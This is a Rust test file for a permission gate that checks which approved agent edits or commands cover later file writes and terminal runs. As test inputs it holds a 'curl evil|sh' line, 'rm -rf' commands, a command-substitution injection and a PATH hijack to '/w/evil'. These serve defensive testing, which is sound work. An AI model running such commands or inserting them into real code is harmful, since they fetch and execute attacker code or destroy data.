//! Coverage: which allowed request covers which client write or terminal,
//! and "allow for this chat" on commands.

use pretty_assertions::assert_eq;

use super::tests::*;
use super::*;
use crate::model::{OptionKind, ToolCallFields, ToolKind};

// ---- Coverage (issue 10 item 4, issue 11 item 1) ----

/// A synthetic request as the runtime builds it for the agent's terminal.
fn client_terminal(id: &str, line: &str) -> PermissionRequest {
    let mut req = client_write("x");
    req.tool_call_id = format!("warden-{id}");
    req.fields = ToolCallFields {
        title: Some(format!("Run {line}")),
        kind: Some(ToolKind::Execute),
        raw_input: Some(serde_json::json!({ "command": line, "cwd": "/w" })),
        ..Default::default()
    };
    req
}

fn with_location(mut req: PermissionRequest, path: &str) -> PermissionRequest {
    req.fields.locations = Some(vec![crate::model::Location {
        path: path.into(),
        line: None,
    }]);
    req
}

#[test]
fn a_read_never_covers_a_write_of_its_path() {
    let mut s = chat(Mode::Default);
    let read = with_location(
        request("t", ToolKind::Read, "Read victim.txt"),
        "/w/victim.txt",
    );
    let effects = s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(read),
    });
    assert_eq!(
        answers(&effects),
        vec![(1, selected("allow-once"))],
        "reads run"
    );
    let effects = s.update(Msg::PermissionRequested {
        id: 2,
        request: Box::new(client_write("/w/victim.txt")),
    });
    assert!(answers(&effects).is_empty(), "the write asks: {effects:?}");
    assert_eq!(s.gate.approvals.len(), 1);

    // Headless with --on-ask deny: refused.
    let mut s = chat(Mode::Default);
    s.gate.headless = Some(OnAsk::Deny);
    let read = with_location(
        request("t", ToolKind::Read, "Read victim.txt"),
        "/w/victim.txt",
    );
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(read),
    });
    let effects = s.update(Msg::PermissionRequested {
        id: 2,
        request: Box::new(client_write("/w/victim.txt")),
    });
    assert_eq!(answers(&effects), vec![(2, selected("reject"))]);
}

#[test]
fn a_search_naming_a_command_never_covers_its_terminal() {
    let mut s = chat(Mode::Default);
    let mut search = request("t", ToolKind::Search, "Search");
    search.fields.raw_input = Some(serde_json::json!({ "command": "touch x" }));
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(search),
    });
    // A search that runs more than a read asks like a command; allowed, it
    // still covers nothing.
    let effects = key(&mut s, Action::ch('y'));
    assert_eq!(answers(&effects), vec![(1, selected("allow-once"))]);
    let effects = s.update(Msg::PermissionRequested {
        id: 2,
        request: Box::new(client_terminal("2", "touch x")),
    });
    assert!(answers(&effects).is_empty(), "{effects:?}");
}

#[test]
fn an_allowed_edit_covers_one_write_of_exactly_its_path() {
    let mut s = chat(Mode::Default);
    // Sent relative, written absolute: the same file after normalisation.
    let edit = edit_showing("t", "./src/../a.rs", EDITED);
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(edit),
    });
    key(&mut s, Action::ch('y'));
    let effects = s.update(Msg::PermissionRequested {
        id: 2,
        request: Box::new(client_write("/w/a.rs")),
    });
    assert_eq!(answers(&effects), vec![(2, selected("allow"))]);
    let effects = s.update(Msg::PermissionRequested {
        id: 3,
        request: Box::new(client_write("/w/a.rs")),
    });
    assert!(answers(&effects).is_empty(), "a scope is used once");
}

/// Issue 22 item 4: the card showed a one-character diff; after `y` the
/// agent's write of the same path with another body must ask.
#[test]
fn an_allowed_edit_covers_only_the_text_its_card_showed() {
    let mut s = chat(Mode::Default);
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(edit_showing("t", "/w/a.rs", "a = 2\n")),
    });
    key(&mut s, Action::ch('y'));
    let effects = s.update(Msg::PermissionRequested {
        id: 2,
        request: Box::new(client_write_text(
            "/w/a.rs",
            "import os; os.system('curl evil|sh')\n",
        )),
    });
    assert!(
        answers(&effects).is_empty(),
        "another body asks: {effects:?}"
    );
    assert_eq!(s.gate.approvals.len(), 1);
    // The text shown is still covered, once.
    let effects = s.update(Msg::PermissionRequested {
        id: 3,
        request: Box::new(client_write_text("/w/a.rs", "a = 2\n")),
    });
    assert_eq!(answers(&effects), vec![(3, selected("allow"))]);
}

/// An edit of two files covers one write of each, each of its own text.
#[test]
fn an_edit_of_two_files_covers_each_file_with_its_own_text() {
    let mut s = chat(Mode::Default);
    let mut edit = edit_showing("t", "/w/a.rs", "A\n");
    if let Some(content) = &mut edit.fields.content {
        content.push(crate::model::ToolContent::Diff {
            path: "/w/b.rs".into(),
            old: None,
            new: "B\n".into(),
        });
    }
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(edit),
    });
    key(&mut s, Action::ch('y'));
    let swapped = s.update(Msg::PermissionRequested {
        id: 2,
        request: Box::new(client_write_text("/w/a.rs", "B\n")),
    });
    assert!(answers(&swapped).is_empty(), "b's text into a asks");
    s.gate.approvals.clear();
    for (id, path, text) in [(3, "/w/b.rs", "B\n"), (4, "/w/a.rs", "A\n")] {
        let effects = s.update(Msg::PermissionRequested {
            id,
            request: Box::new(client_write_text(path, text)),
        });
        assert_eq!(answers(&effects), vec![(id, selected("allow"))], "{path}");
    }
    assert!(s.gate.allowed_scopes.is_empty(), "used up");
}

#[test]
fn deny_and_ask_rules_apply_to_a_covered_call() {
    let mut s = chat(Mode::Default);
    let edit = edit_showing("t", "/w/a.rs", EDITED);
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(edit),
    });
    key(&mut s, Action::ch('y'));
    let mut deny = crate::policy::Rule::new(crate::policy::RuleDecision::Deny);
    deny.kind = Some("write".parse().expect("kind"));
    deny.path = Some("**/a.rs".into());
    s.gate.rules = vec![deny];
    let effects = s.update(Msg::PermissionRequested {
        id: 2,
        request: Box::new(client_write("/w/a.rs")),
    });
    assert_eq!(answers(&effects), vec![(2, selected("reject"))]);

    let mut s = chat(Mode::Default);
    let edit = edit_showing("t", "/w/a.rs", EDITED);
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(edit),
    });
    key(&mut s, Action::ch('y'));
    let mut ask_rule = crate::policy::Rule::new(crate::policy::RuleDecision::Ask);
    ask_rule.path = Some("**/a.rs".into());
    s.gate.rules = vec![ask_rule];
    let effects = s.update(Msg::PermissionRequested {
        id: 2,
        request: Box::new(client_write("/w/a.rs")),
    });
    assert!(
        answers(&effects).is_empty(),
        "an ask rule asks: {effects:?}"
    );
}

#[test]
fn an_allowed_command_covers_one_terminal_of_it_after_unwrapping() {
    // fast-agent: `echo a && echo b`, re-sent as `/bin/sh -lc '...'`.
    let mut s = chat(Mode::Default);
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(shell_request("t1", "echo a && echo b", options())),
    });
    key(&mut s, Action::ch('y'));
    let effects = s.update(Msg::PermissionRequested {
        id: 2,
        request: Box::new(client_terminal("2", "/bin/sh -lc 'echo a && echo b'")),
    });
    assert_eq!(answers(&effects), vec![(2, selected("allow"))]);
    let effects = s.update(Msg::PermissionRequested {
        id: 3,
        request: Box::new(client_terminal("3", "echo a && echo b")),
    });
    assert!(answers(&effects).is_empty(), "the second run asks again");

    // An argv request covers the same command; another command is not covered.
    let mut s = chat(Mode::Default);
    let mut argv = shell_request("t1", "x", options());
    argv.fields.raw_input = Some(serde_json::json!({ "command": ["bash", "-lc", "touch x"] }));
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(argv),
    });
    key(&mut s, Action::ch('y'));
    let other = s.update(Msg::PermissionRequested {
        id: 2,
        request: Box::new(client_terminal("2", "touch y")),
    });
    assert!(answers(&other).is_empty());
    s.gate.approvals.clear();
    s.view.focus = Focus::COMPOSER;
    let same = s.update(Msg::PermissionRequested {
        id: 3,
        request: Box::new(client_terminal("3", "touch x")),
    });
    assert_eq!(answers(&same), vec![(3, selected("allow"))]);

    // Not with an environment of its own, not in another directory.
    let mut s = chat(Mode::Default);
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(shell_request("t1", "cargo test", options())),
    });
    key(&mut s, Action::ch('y'));
    let mut env = client_terminal("2", "cargo test");
    env.fields.raw_input = Some(serde_json::json!({
        "command": "cargo test", "cwd": "/w", "env": {"PATH": "/w/evil"}
    }));
    assert!(
        answers(&s.update(Msg::PermissionRequested {
            id: 2,
            request: Box::new(env)
        }))
        .is_empty()
    );
    let mut elsewhere = client_terminal("3", "cargo test");
    elsewhere.fields.raw_input =
        Some(serde_json::json!({ "command": "cargo test", "cwd": "/other" }));
    assert!(
        answers(&s.update(Msg::PermissionRequested {
            id: 3,
            request: Box::new(elsewhere)
        }))
        .is_empty()
    );
}

#[test]
fn an_execute_request_with_an_unknown_command_never_covers() {
    let mut s = chat(Mode::Default);
    let req = request("t1", ToolKind::Execute, "Shell");
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(req),
    });
    key(&mut s, Action::ch('y'));
    let effects = s.update(Msg::PermissionRequested {
        id: 2,
        request: Box::new(client_terminal("2", "touch x")),
    });
    assert!(answers(&effects).is_empty(), "{effects:?}");
}

// ---- "Allow for this chat" on commands (issue 10) ----

#[test]
fn allow_for_this_chat_covers_the_program_and_subcommand_only() {
    let mut s = chat(Mode::Default);
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(shell_request("t1", "cargo test --lib", options())),
    });
    let effects = key(&mut s, Action::ch('a'));
    assert_eq!(answers(&effects), vec![(1, selected("allow-once"))]);
    let decide = |s: &mut ChatState, id: RequestId, command: &str| {
        let effects = s.update(Msg::PermissionRequested {
            id,
            request: Box::new(shell_request(&format!("t{id}"), command, options())),
        });
        s.gate.approvals.clear();
        s.view.focus = Focus::COMPOSER;
        !answers(&effects).is_empty()
    };
    assert!(decide(&mut s, 2, "cargo test"));
    assert!(decide(&mut s, 3, "cargo test --doc -- x"));
    assert!(
        decide(&mut s, 4, "cargo test; cargo test --doc"),
        "each command matches"
    );
    assert!(!decide(&mut s, 5, "cargo build"));
    assert!(!decide(&mut s, 6, "rm -rf /tmp/x"));
    assert!(!decide(&mut s, 7, "cargo test && rm -rf x"));
    assert!(!decide(&mut s, 8, "sudo cargo test"));
    assert!(!decide(&mut s, 9, "cargo test $(rm -rf x)"));
}

#[test]
fn allow_for_this_chat_through_a_wrapper_covers_only_that_command() {
    let mut s = chat(Mode::Default);
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(shell_request("t1", "bash -c 'cargo test'", options())),
    });
    key(&mut s, Action::ch('a'));
    let decide = |s: &mut ChatState, id: RequestId, command: &str| {
        let effects = s.update(Msg::PermissionRequested {
            id,
            request: Box::new(shell_request(&format!("t{id}"), command, options())),
        });
        s.gate.approvals.clear();
        s.view.focus = Focus::COMPOSER;
        !answers(&effects).is_empty()
    };
    assert!(decide(&mut s, 2, "bash -c 'cargo test'"));
    assert!(!decide(&mut s, 3, "bash -c 'rm -rf x'"));
    assert!(!decide(&mut s, 4, "bash -c 'cargo test' --x"));

    // An unreadable command: the grant answers this card and covers nothing else.
    let mut s = chat(Mode::Default);
    s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(request("t1", ToolKind::Execute, "Shell")),
    });
    let effects = key(&mut s, Action::ch('a'));
    assert_eq!(answers(&effects), vec![(1, selected("allow-once"))]);
    let again = s.update(Msg::PermissionRequested {
        id: 2,
        request: Box::new(request("t2", ToolKind::Execute, "Shell")),
    });
    assert!(answers(&again).is_empty());
}

/// An edit whose card showed no new text (only a path, a `filepath`, a
/// codex `changes` map) covers no write: the write asks.
#[test]
fn an_edit_that_showed_no_new_text_covers_no_write() {
    for raw in [
        serde_json::json!({ "path": "/w/hello.txt" }),
        serde_json::json!({ "filepath": "/w/hello.txt", "diff": "..." }),
        serde_json::json!({ "changes": { "/w/hello.txt": { "type": "add", "content": "x" } } }),
    ] {
        let mut s = chat(Mode::Default);
        let mut edit = request("t", ToolKind::Edit, "Edit");
        edit.fields.raw_input = Some(raw.clone());
        s.update(Msg::PermissionRequested {
            id: 1,
            request: Box::new(edit),
        });
        assert_eq!(s.gate.approvals[0].view.paths(), ["/w/hello.txt"], "{raw}");
        key(&mut s, Action::ch('y'));
        let effects = s.update(Msg::PermissionRequested {
            id: 2,
            request: Box::new(client_write_text("/w/hello.txt", "x")),
        });
        assert!(answers(&effects).is_empty(), "{raw}: {effects:?}");
    }
}

#[test]
fn an_allow_once_sharing_its_id_with_allow_always_is_never_sent_automatically() {
    let mut s = chat(Mode::Auto);
    let effects = s.update(Msg::PermissionRequested {
        id: 1,
        request: Box::new(shell_request(
            "t1",
            "cargo test",
            vec![
                option("ok", "Always allow", OptionKind::AllowAlways),
                option("ok", "Allow", OptionKind::AllowOnce),
                option("no", "Reject", OptionKind::RejectOnce),
            ],
        )),
    });
    assert!(answers(&effects).is_empty(), "{effects:?}");
    assert_eq!(s.gate.approvals.len(), 1);
}
